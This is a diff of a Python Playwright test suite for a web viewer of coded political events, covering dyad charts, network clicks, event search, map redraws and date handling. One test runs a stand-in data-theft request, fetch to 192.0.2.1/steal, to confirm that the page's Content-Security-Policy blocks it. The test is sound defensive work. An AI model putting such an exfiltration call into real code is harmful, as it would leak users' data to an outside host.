@@ -3,13 +3,15 @@ the real ``dyads serve`` command over a database coded from the sample articles,
 user would, and what it shows checked against the same file read here (``fixtures.stories``).
 
 Every test also checks that the page logged no error, that no request failed or was refused, and that
-it asked nothing of any host but its own server (the assets are bundled). With ``DYADS_SCREENSHOTS=DIR``
+it asked nothing of any host but its own server (the assets are bundled, and the page's
+Content-Security-Policy would refuse any other host). With ``DYADS_SCREENSHOTS=DIR``
 the dyad and network tests save ``dyad.png`` and ``network.png`` there (docs/images/serve-*.png).
 Without Chromium or Playwright the browser tests are skipped, except in CI (``CI`` set), where they fail.
 """
 from __future__ import annotations
 
 import datetime as dt
+import json
 import os
 import re
 import shutil
@@ -56,12 +58,12 @@ def test_the_page_asks_nothing_of_another_host():
 
 
 def test_the_bundled_libraries_are_the_versions_the_notice_names():
+    """Each script holds the version string NOTICE.md gives it (each build carries its own version)."""
     notice = (STATIC / "vendor" / "NOTICE.md").read_text(encoding="utf-8")
-    for name, pattern in [("vega-lite.min.js", r'var n="([\d.]+)"'), ("vega-embed.min.js", r'hn="([\d.]+)"')]:
-        head = (STATIC / "vendor" / name).read_text(encoding="utf-8")
-        version = re.search(pattern, head)
-        assert version, name
-        assert f"| `{name}` |" in notice and f"| {version.group(1)} |" in notice, (name, version.group(1))
+    rows = dict(re.findall(r"^\| `([\w.-]+\.min\.js)` \|[^|]+\| ([\d.]+) \|", notice, re.MULTILINE))
+    assert set(rows) == {"vega.min.js", "vega-lite.min.js", "vega-embed.min.js"}
+    for name, version in rows.items():
+        assert f'"{version}"' in (STATIC / "vendor" / name).read_text(encoding="utf-8"), (name, version)
     for licence in ["LICENSE-vega.txt", "LICENSE-vega-lite.txt", "LICENSE-vega-embed.txt", "THIRD-PARTY-LICENSES.txt"]:
         assert (STATIC / "vendor" / licence).stat().st_size > 500, licence
     assert (STATIC / "world" / "LICENSE-world-atlas.txt").is_file()
@@ -147,7 +149,7 @@ class Visit:
 def visit(browser, server) -> Iterator[Visit]:
     context = browser.new_context(viewport={"width": 1280, "height": 900}, device_scale_factor=1)
     page = context.new_page()
-    page.set_default_timeout(15_000)
+    page.set_default_timeout(30_000)  # a loaded CI machine; a passing run waits far less
     seen = Visit(page, server)
     page.on("console", lambda m: m.type == "error" and seen.problems.append(f"console error: {m.text}"))
     page.on("pageerror", lambda e: seen.problems.append(f"uncaught: {e}"))
@@ -213,6 +215,20 @@ def _between(told: dict[str, Story], source: str, target: str) -> dict[str, Stor
 
 def _shown_events(visit: Visit, scope: str) -> list[str]:
     return visit.page.locator(f"{scope} [data-testid=event-row]").evaluate_all("rows => rows.map(r => r.dataset.eventId)")
+
+
+def _wait_for_events(visit: Visit, scope: str, expected) -> None:
+    """Waits until the table under ``scope`` lists exactly these event ids (the table it replaces
+    may hold as many rows), then checks it, so that a wrong table fails with the difference."""
+    from playwright.sync_api import TimeoutError as PlaywrightTimeout
+
+    want = json.dumps(sorted(expected), separators=(",", ":"))
+    try:
+        visit.page.wait_for_function(
+            f"JSON.stringify([...document.querySelectorAll('{scope} [data-testid=event-row]')].map(r => r.dataset.eventId).sort()) === '{want}'")
+    except PlaywrightTimeout:
+        pass
+    assert sorted(_shown_events(visit, scope)) == sorted(expected)
 
 
 def _pick(visit: Visit, testid: str, typed: str, key: str) -> None:
@@ -281,8 +297,7 @@ def test_dyad_view_charts_and_lists_the_stored_events_of_the_dyad(visit, told, p
 
     # the table lists exactly the stored events of each direction
     ab = _between(told, a, b)
-    page.wait_for_function(f"document.querySelectorAll('[data-testid=dyad-events] [data-testid=event-row]').length === {len(ab)}")
-    assert sorted(_shown_events(visit, "[data-testid=dyad-events]")) == sorted(ab)
+    _wait_for_events(visit, "[data-testid=dyad-events]", ab)
     assert page.get_by_test_id("dyad-dir-ab").inner_text() == f"{a} → {b} ({len(ab)})"
     _screenshot(visit, "dyad.png")
 
@@ -290,8 +305,7 @@ def test_dyad_view_charts_and_lists_the_stored_events_of_the_dyad(visit, told, p
     page.get_by_test_id("dyad-dir-ba").click()
     page.wait_for_url(re.compile(r"dir=ba"))
     if ba:
-        page.wait_for_function(f"document.querySelectorAll('[data-testid=dyad-events] [data-testid=event-row]').length === {len(ba)}")
-        assert sorted(_shown_events(visit, "[data-testid=dyad-events]")) == sorted(ba)
+        _wait_for_events(visit, "[data-testid=dyad-events]", ba)
     else:
         page.get_by_test_id("events-empty").wait_for()
 
@@ -300,11 +314,20 @@ def test_dyad_view_charts_and_lists_the_stored_events_of_the_dyad(visit, told, p
     direction, period, quad = busiest
     page.locator(f'#dyad-chart path[aria-label^="{direction}, {period}, {quad}:"]').click()
     page.wait_for_url(re.compile(rf"period={period}"))
-    page.get_by_test_id("dyad-period").wait_for()
     source, target = direction.split(" → ")
     in_period = {i for i, s in _between(told, source, target).items() if s.day and _week(s.day) == period}
-    page.wait_for_function(f"document.querySelectorAll('[data-testid=dyad-events] [data-testid=event-row]').length === {len(in_period)}")
-    assert set(_shown_events(visit, "[data-testid=dyad-events]")) == in_period
+    _wait_for_events(visit, "[data-testid=dyad-events]", in_period)
+    assert page.get_by_test_id("dyad-period").input_value() == period
+    # its bars stand out, the others fade
+    opacity = dict(page.locator("#dyad-chart g.mark-rect.role-mark path").evaluate_all(
+        "ps => ps.map(p => [p.getAttribute('aria-label'), getComputedStyle(p).opacity])"))
+    assert {label for label, o in opacity.items() if o == "1"} == {label for label in opacity if label.startswith(f"{direction}, {period}, ")}
+    # the period select says the same from the keyboard; "all periods" lists the direction's events again
+    page.get_by_test_id("dyad-period").select_option("")
+    page.wait_for_url(re.compile(r"#dyad\?(?!.*period=)"))
+    _wait_for_events(visit, "[data-testid=dyad-events]", _between(told, source, target))
+    page.get_by_test_id("dyad-period").select_option(period)
+    _wait_for_events(visit, "[data-testid=dyad-events]", in_period)
 
     # an event's document: the article with every event's spans marked, displaCy-style
     first = page.locator("[data-testid=dyad-events] [data-testid=event-row]").first
@@ -344,12 +367,22 @@ def test_network_shows_the_partners_and_an_edge_opens_their_dyad(visit, told):
     _screenshot(visit, "network.png")
 
     # a click on an edge opens the dyad view of the actor and that partner
-    page.locator("#network-chart g.edge-hits path").first.click()
-    page.wait_for_url(re.compile(rf"#dyad\?a={actor}&b=\w+"))
-    partner = re.search(r"&b=(\w+)", page.url).group(1)
-    assert partner in partners
+    top = max(partners, key=lambda k: (partners[k], k))
+    edges = page.locator("#network-chart g.edge-hits path")
+    labels = edges.evaluate_all("ps => ps.map(p => p.getAttribute('aria-label'))")
+    edge = [i for i, label in enumerate(labels) if set(label.split(":")[0].split(" – ")) == {actor, top}]
+    assert len(edge) == 1, labels
+    edges.nth(edge[0]).click()
+    page.wait_for_url(re.compile(rf"#dyad\?a={actor}&b={top}"))
     page.wait_for_selector("#dyad-chart svg g.mark-rect path")
-    assert sum(_bars(visit).values()) == partners[partner]
+    assert sum(_bars(visit).values()) == partners[top]
+
+    # a click on a partner's node opens the partner's own network
+    visit.open(f"#actor/{actor}")
+    page.locator(f'#network-chart g.nodes path[aria-label^="{top}, "]').click()
+    page.wait_for_url(re.compile(rf"#actor/{top}"))
+    theirs = everyone[top]
+    page.wait_for_function(f"[...document.querySelectorAll('[data-testid=partner-row]')].map(r => r.dataset.partner).sort().join(' ') === '{' '.join(sorted(theirs))}'")
     visit.check()
 
 
@@ -362,8 +395,8 @@ def test_events_view_filters_and_pages(visit, told, samples_db):
     page.get_by_test_id("events-search").click()
     material = {i for i, s in told.items() if s.quad_class == 4}
     page.wait_for_url(re.compile(r"quad_class=4"))
-    page.wait_for_function(f"document.querySelector('[data-testid=events-total]').textContent === '{len(material)} match'")
-    assert set(_shown_events(visit, "[data-testid=events-results]")) == material
+    _wait_for_events(visit, "[data-testid=events-results]", material)
+    assert page.get_by_test_id("events-total").inner_text() == f"{len(material)} match"
     # every row shows its evidence sentence with the trigger marked, and a link to its document
     rows = page.get_by_test_id("event-row")
     for i in range(rows.count()):
@@ -390,8 +423,27 @@ def test_events_view_filters_and_pages(visit, told, samples_db):
     page.get_by_test_id("events-search").click()
     page.wait_for_url(re.compile(rf"source={source}"))
     both = {i for i in material if source in told[i].sources}
-    page.wait_for_function(f"document.querySelector('[data-testid=events-total]').textContent === '{len(both)} match'")
-    assert set(_shown_events(visit, "[data-testid=events-results]")) == both
+    _wait_for_events(visit, "[data-testid=events-results]", both)
+    assert page.get_by_test_id("events-total").inner_text() == f"{len(both)} match"
+
+    # words in the sentence, in any case: a word of several (not all) evidence sentences, typed in capitals
+    con = connect(samples_db)
+    try:
+        sentences = dict(con.execute("SELECT m.event_id, s.text FROM mentions m JOIN sentences s USING (doc_id, sentence_index)"
+                                     " WHERE m.event_id = m.story_id").fetchall())
+    finally:
+        con.close()
+    words = Counter(w for text in sentences.values() for w in set(re.findall(r"[a-z]{6,}", text.lower())))
+    word = min((w for w, n in words.items() if 2 <= n < len(sentences)), key=lambda w: (words[w], w))
+    holding = {i for i, text in sentences.items() if word in text.lower()}
+    visit.open("#events")
+    # the form shows the link's filters, here none
+    page.wait_for_function("document.querySelector('[data-testid=events-source]').value === ''")
+    page.get_by_test_id("events-q").fill(word.upper())
+    page.get_by_test_id("events-search").click()
+    page.wait_for_url(re.compile(rf"q={word.upper()}"))
+    _wait_for_events(visit, "[data-testid=events-results]", holding)
+    assert page.get_by_test_id("events-total").inner_text() == f"{len(holding)} match"
     visit.check()
 
 
@@ -412,6 +464,61 @@ def test_map_draws_the_world_and_the_event_places(visit, samples_db):
     # a narrower window draws the map again to the new width
     wide = page.locator("#map-chart svg").bounding_box()["width"]
     page.set_viewport_size({"width": 900, "height": 900})
-    page.wait_for_function(f"document.querySelector('#map-chart svg').getBoundingClientRect().width < {wide - 200}")
-    assert page.locator("#map-chart g.mark-symbol.role-mark path").count() == places
+    # the new map once it is drawn whole: narrower, with every place
+    page.wait_for_function(f"""() => {{
+        const svg = document.querySelector('#map-chart svg');
+        return svg && svg.getBoundingClientRect().width < {wide - 200}
+            && svg.querySelectorAll('g.mark-symbol.role-mark path').length === {places}
+            && svg.querySelectorAll('g.mark-shape path').length > 150;
+    }}""")
     visit.check()
+
+
+def test_the_page_marks_code_points_and_counts_weeks_from_monday(visit):
+    """The page's own functions, run in the browser: offsets from the API count code points (Python's),
+    not the UTF-16 units of a JavaScript string; overlapping spans of two events both stay marked;
+    weeks start on Monday as DuckDB's date_trunc counts them."""
+    visit.open("#events")
+    visit.page.get_by_test_id("events-total").wait_for()
+    found = visit.page.evaluate("""async () => {
+        const ui = await import("./static/js/ui.js");
+        const doc = await import("./static/js/document.js");
+        const periods = await import("./static/js/periods.js");
+        const texts = (nodes) => { const p = document.createElement("p"); p.append(...nodes); return [...p.querySelectorAll("mark")].map((m) => [m.dataset.label, m.textContent]); };
+        // a flag is two code points and four UTF-16 units
+        const sentence = "🇷🇺 Russia attacked Ukraine.";
+        const marks = texts(ui.highlighted(sentence, [{start: 3, end: 9, label: "source"}, {start: 10, end: 18, label: "trigger"}, {start: 19, end: 26, label: "target"}]));
+        const spans = [
+            {start: 0, end: 6, label: "source", event_id: "a", event: "ASSAULT"},
+            {start: 7, end: 15, label: "trigger", event_id: "a", event: "ASSAULT"},
+            {start: 0, end: 6, label: "target", event_id: "b", event: "ACCUSE"},
+        ];
+        const p = document.createElement("p");
+        p.append(...doc.markedText("Russia attacked.", spans));
+        const ents = [...p.querySelectorAll("mark")].map((m) => [m.dataset.label, m.dataset.events, m.textContent]);
+        return {
+            marks, ents,
+            weeks: ["2019-12-01", "2019-12-02", "2019-12-08"].map((d) => periods.periodStart(d, "week")),
+            filled: periods.fillPeriods(["2019-12-09"], "week", {from: "2019-12-03", to: "2019-12-20"}),
+            end: periods.periodEnd("2020-02-01", "month"),
+        };
+    }""")
+    assert found["marks"] == [["source", "Russia"], ["trigger", "attacked"], ["target", "Ukraine"]]
+    assert found["ents"] == [["source", "a b", "Russiasourcetarget"], ["trigger", "a", "attackedASSAULT"]]
+    assert found["weeks"] == ["2019-11-25", "2019-12-02", "2019-12-02"]
+    assert found["filled"] == ["2019-12-02", "2019-12-09", "2019-12-16"]
+    assert found["end"] == "2020-02-29"
+    visit.check()
+
+
+def test_the_page_refuses_to_reach_another_host(visit):
+    """The page's Content-Security-Policy: should a script ever try to fetch from another host, the
+    browser refuses before sending anything."""
+    visit.open("#events")
+    visit.page.get_by_test_id("events-total").wait_for()
+    outcome = visit.page.evaluate("""async () => {
+        try { await fetch("http://192.0.2.1/steal?x=1"); return "sent"; } catch (e) { return "refused"; }
+    }""")
+    assert outcome == "refused"
+    # the browser said why, and no request left it (a sent one would be listed as to another host)
+    assert visit.problems and all("Content Security Policy" in p for p in visit.problems), visit.problems
